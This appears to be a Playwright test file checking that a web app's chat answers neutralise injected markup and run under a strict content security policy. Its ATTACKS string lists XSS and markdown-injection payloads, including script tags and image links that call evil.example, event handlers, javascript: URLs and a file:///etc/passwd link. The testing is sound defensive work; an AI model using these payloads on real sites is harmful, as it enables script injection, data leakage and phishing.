"""Hostile text in the page: nothing in an answer runs, and nothing leaves."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import expect

from core.contract import Text
from tests.web.pages.support_visit import DONE, Visiting

pytestmark = pytest.mark.asyncio(loop_scope="package")  # the browser lives in that loop


ATTACKS = """<script>pwned = 1; fetch('https://evil.example/s')</script>
<img src="https://evil.example/a.png" onerror="pwned = 1">

<svg onload="pwned = 1"><style>@import 'https://evil.example/c.css'</style></svg>

<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><base href="https://evil.example/">

![pixel](https://evil.example/b.png?SECRET) ![ref][r] [click](javascript:pwned=1)
[data](data:text/html,<script>1</script>)

[entity](&#106;avascript:pwned=1) <javascript:pwned=1> [tab](java\tscript:pwned=1) [file](file:///etc/passwd)

[bank.example](https://evil.example/login) <https://bank.example@evil.example/> ["](https://evil.example/"onmouseover="pwned=1)

`<img src=x onerror=pwned=1>` <a href="https://evil.example" ping="https://evil.example/p" onclick="pwned=1">x</a>

- [ ] <form action="https://evil.example"><input autofocus onfocus="pwned=1"></form>

| <img src=x onerror=pwned=1> | b |
|---|---|
| <link rel=stylesheet href=https://evil.example/d.css> | <meta http-equiv=refresh content=0;url=https://evil.example> |

```html"><img src=x onerror=pwned=1>
</code></pre><img src=x onerror=pwned=1>
```

[r]: https://evil.example/e.png "x"
"""


@pytest.mark.parametrize("size", [1, 10_000])
async def test_markup_in_an_answer_does_nothing(visiting: Visiting, size: int) -> None:
    """Scripts, handlers, images, styles and forms stay text, for any cut of the answer. Links are plain."""
    pieces = [ATTACKS[start : start + size] for start in range(0, len(ATTACKS), size)]
    async with visiting([*map(Text, pieces), DONE]) as visit:
        await visit.ask("attack")
        await visit.wait_for_answer()
        await visit.page.locator(".answer .body").last.hover()

        answer = visit.page.locator(".answer .body").last
        tags = await answer.locator("*").evaluate_all("all => [...new Set(all.map(e => e.localName))]")
        assert set() == set(tags) - {
            *[
                "a",
                "bdi",
                "br",
                "code",
                "div",
                "li",
                "p",
                "pre",
                "span",
                "table",
                "tbody",
                "td",
                "th",
                "thead",
                "tr",
                "ul",
            ]
        }
        attributes = await answer.locator("*").evaluate_all("all => all.flatMap(e => e.getAttributeNames())")
        allowed = {
            "href",
            "target",
            "rel",
            "class",
            "tabindex",
            "role",
            "aria-label",
            "data-label",
            "data-text",
            "lang",
            "scope",
        }
        assert set() == set(attributes) - allowed
        links = await answer.locator("a").evaluate_all(
            "all => all.map(a => [a.protocol, a.rel, a.target, a.innerText])"
        )
        assert links
        for protocol, rel, target, shown in links:
            assert (protocol, rel, target) == ("https:", "noopener noreferrer nofollow", "_blank")
            assert "(evil.example)" in shown or re.match(r"https://evil\.example[/\s]", shown)
        assert await visit.page.evaluate("() => globalThis.pwned === undefined")
        await expect(answer).to_contain_text("![pixel](https://evil.example/b.png?SECRET)")


async def test_the_page_runs_under_a_strict_policy(visiting: Visiting) -> None:
    """The browser blocks inline scripts, and markup from a plain string."""
    async with visiting([DONE]) as visit:
        blocked = await visit.page.evaluate(
            """() => {
                try { document.createElement('p').innerHTML = '<b>x</b>'; return false; }
                catch (error) { return error instanceof TypeError; }
            }"""
        )
        policy = (await visit.page.request.get(f"{visit.origin}/static/index.html")).headers["content-security-policy"]
        visit.problems.clear()  # the browser logs the attempt above

        assert blocked
        directives = {name: rest for name, _, rest in (part.strip().partition(" ") for part in policy.split(";"))}
        assert (directives["default-src"], directives["script-src"]) == ("'none'", "'self'")
